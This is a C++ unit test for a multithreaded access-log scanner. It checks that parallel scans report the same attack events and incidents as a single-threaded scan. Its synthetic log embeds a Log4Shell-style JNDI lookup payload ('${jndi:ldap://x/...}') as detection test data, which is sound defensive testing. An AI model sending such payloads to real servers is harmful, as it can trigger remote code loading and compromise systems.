#include "logs/scan/scanner.h"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <scratch_tree.h>

namespace stockade::logs {
namespace {

// Some megabytes that begin as a log which threads may share, so that several threads have several
// pieces each: readers, four attackers, and now and then a line that is none.
std::string mixed_log(int lines) {
  constexpr const char* kTargets[] = {"/", "/shop?item=7", "/style.css", "/about.html", "/missing"};
  std::string text;
  for (int i = 0; i < lines; ++i) {
    const std::string stamp =
        fmt::format("24/Nov/2025:{:02}:{:02}:{:02} +0000", i / 3600 % 24, i / 60 % 60, i % 60);
    if (i % 997 == 996) text += "this line is of no log\n";
    if (i % 50 == 7) {
      text += fmt::format(
          "203.0.113.{} - - [{}] \"GET /?q=${{jndi:ldap://x/{}}} HTTP/1.1\" 404 12 "
          "\"-\" \"curl/8\"\n",
          i / 50 % 4, stamp, i);
      continue;
    }
    // Every other block is slow to look at, so that later pieces are ready before earlier ones.
    const bool slow = i / 2'000 % 2 == 0;
    const std::string target =
        slow ? fmt::format("/item/{0}?q=%2541%42{0}%20%27{0}%2e%2e{0}", i) : kTargets[i % 5];
    text += fmt::format(
        "198.51.{}.{} - - [{}] \"GET {} HTTP/1.1\" {} 5120 \"https://shop.example/\" "
        "\"Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0\"\n",
        i % 200, i % 251, stamp, target, !slow && i % 5 == 4 ? 404 : 200);
  }
  return text;
}

struct Scanned {
  std::vector<std::string> events, incidents;
  LogSummary summary;
};

Scanned scanned(const std::string& path, unsigned threads) {
  Scanned result;
  IncidentBook book;
  Scanner scanner(*Matcher::create(), book, [&](const Event& event) {
    result.events.push_back(
        fmt::format("{} {} {}", event.line, name_of(event.family), event.source.text()));
  });
  result.summary = scanner.scan({path, {}}, 0, threads, nullptr);
  for (const Incident* incident : book.by_weight()) {
    result.incidents.push_back(
        fmt::format("{} {} {}", incident->source, incident->lines, incident->first));
  }
  return result;
}

TEST(Scan, SeveralThreadsTellWhatOneTells) {
  const test::ScratchTree tree;
  tree.write("/access.log", mixed_log(30'000));
  const Scanned one = scanned(tree.path() + "/access.log", 1);
  EXPECT_EQ(one.summary.lines, 30'000U + 30);
  EXPECT_EQ(one.summary.understood, 30'000U);
  EXPECT_EQ(one.events.size(), 600U);
  EXPECT_EQ(one.incidents.size(), 4U);
  for (const unsigned threads : {2U, 4U}) {
    const Scanned several = scanned(tree.path() + "/access.log", threads);
    EXPECT_EQ(several.events, one.events) << threads;
    EXPECT_EQ(several.incidents, one.incidents) << threads;
    EXPECT_EQ(several.summary.lines, one.summary.lines);
    EXPECT_EQ(several.summary.understood, one.summary.understood);
    EXPECT_EQ(several.summary.bytes, one.summary.bytes);
    EXPECT_EQ(several.summary.first_not_understood, one.summary.first_not_understood);
  }
}

}  // namespace
}  // namespace stockade::logs
